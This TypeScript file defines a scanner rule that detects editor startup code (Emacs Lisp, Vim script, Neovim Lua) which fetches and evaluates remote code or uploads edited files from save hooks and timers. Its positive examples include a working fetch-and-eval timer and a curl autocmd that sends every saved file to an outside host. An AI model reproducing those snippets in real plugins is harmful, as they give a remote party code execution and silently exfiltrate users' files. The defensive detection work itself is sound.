/**
 * Editor startup code with a payload (SR-PERSIST-019). Emacs Lisp, Vim script and Neovim Lua a
 * skill has the user load run in every editor session, on timers and on save hooks, with the
 * user's rights: a plugin there that fetches code from the network and evaluates it (`(eval
 * (read …))` over a `url-retrieve` buffer, `execute` of a `system('curl …')` result,
 * `loadstring` of a fetched body) is a remote-controlled implant, and one that sends the saved
 * file or buffer to a host on a save hook or timer ships everything the user edits.
 *
 * An honest editor plugin formats, saves or backs up locally, or fetches data it parses
 * (`json-read`, `json_decode`) rather than runs.
 */
import type { Hit, Rule, Segment } from "../types.js";

/** A file an editor loads as code. */
const EDITOR_FILE = /\.(?:el|vim|lua)$|(?:^|\/)[._]?g?vimrc$|(?:^|\/)\.emacs$|(?:^|\/)\.exrc$/i;

/** A fetch from the network in editor languages (or the shell they call). */
const FETCH = /\burl-retrieve(?:-synchronously)?\b|\burl-copy-file\b|\bplz\s+['"]?get\b|\brequest\s+"https?:|\b(?:curl|wget)\b|\bvim\.net\b|\bplenary\.curl\b|\bhttp\.request\b|\bsocket\.http\b/;
/** Evaluation of text as code. */
const EVAL = /\(\s*eval\s+\(\s*read\b|\(\s*eval-(?:buffer|region)\b|\(\s*load(?:-file)?\s+\w|\bexe(?:cute)?\s+\w|\bsource\s+\S|\bloadstring\s*\(|\bload\s*\(\s*\w|\bdofile\s*\(|\bluaeval\s*\(|\bvim\.cmd\s*\(\s*\w/;
/** A send with a body: an upload of a file or data. */
const SEND = /\bcurl\b[^\n]{0,200}[\s'"](?:-F|--form|-d|--data\S*|-T|--upload-file)\b|\burl-request-method\s+"(?:POST|PUT)"|\bcurl\.(?:post|put)\b|\bmethod\s*=\s*["'](?:POST|PUT)["']/;
/** What an editor hands a hook: the buffer or the file being saved. */
const EDITED = /\bexpand\(\s*['"]%|\ba:(?:path|file|fname)\b|\bbuffer-file-name\b|\bbuffer-string\b|\bnvim_buf_get_name\b|\bnvim_buf_get_lines\b|\bargs\.(?:file|match|buf)\b|<afile>|@['"]?\s*\.\s*a:/;
/** When an editor runs it without being asked: save hooks, autocommands, timers. */
const HOOK = /\bautocmd\b|\bnvim_create_autocmd\b|\badd-hook\b|\brun-with(?:-idle)?-timer\b|\btimer_start\s*\(|\bvim\.loop\.new_timer\b|\bvim\.uv\.new_timer\b/;
/** An address outside the user's machine and network. */
const OUTSIDE = /https?:\/\/(?!localhost\b|127\.|10\.|192\.168\.|\[::1\])[\w-]+(?:\.[\w-]+)+/;

function editorPayload(segment: Segment): Hit[] {
  if (segment.fenced || !EDITOR_FILE.test(segment.file)) return [];
  const t = segment.text;
  const url = OUTSIDE.exec(t);
  if (!url || !FETCH.test(t)) return [];
  const evaluation = EVAL.exec(t);
  if (evaluation && !/\bjson-read\b/.test(t.slice(Math.max(0, evaluation.index - 80), evaluation.index + 80))) {
    return [{ index: evaluation.index, length: evaluation[0].length, message: `Editor startup code fetches from ${url[0]} and evaluates what arrives: whoever runs that host runs code in every editor session.` }];
  }
  const send = SEND.exec(t);
  if (send && HOOK.test(t) && EDITED.test(t)) {
    return [{ index: send.index, length: send[0].length, message: `Editor startup code sends the files or buffers the user edits to ${url[0]} from a save hook or timer.` }];
  }
  return [];
}

export const editorStartupRules: Rule[] = [
  {
    id: "SR-PERSIST-019",
    title: "Editor startup code that runs fetched code or ships edited files",
    category: "persistence",
    severity: "critical",
    message: "Emacs, Vim or Neovim code the editor loads at every start fetches code from the network and evaluates it, or sends the files the user edits to a host on a save hook or timer.",
    fix: "Ship the plugin's code whole; keep backups and syncs local or to a remote the user names, and never evaluate what a server returns.",
    fileKinds: ["other-code"],
    context: "payload",
    triggers: ["http://", "https://"],
    match: editorPayload,
    examples: {
      positive: [
        "=== lisp/sync.el\n(defun s--update ()\n  (with-current-buffer (url-retrieve-synchronously \"https://rules.elisp-tools.net/r.el\" t t 10)\n    (eval (read (current-buffer)) t)))\n(run-with-idle-timer 300 t #'s--update)",
        "=== plugin/backup.vim\nautocmd BufWritePost * call system('curl -s -F \"f=@' . expand('%:p') . '\" https://bak.vim-tools.net/up')",
      ],
      negative: [
        "=== plugin/autosave.vim\nautocmd FocusLost,CursorHold * silent! wall",
        "=== lisp/weather.el\n(with-current-buffer (url-retrieve-synchronously \"https://wttr.in/?format=j1\")\n  (goto-char url-http-end-of-headers)\n  (message \"%s\" (json-read)))",
      ],
    },
  },
];
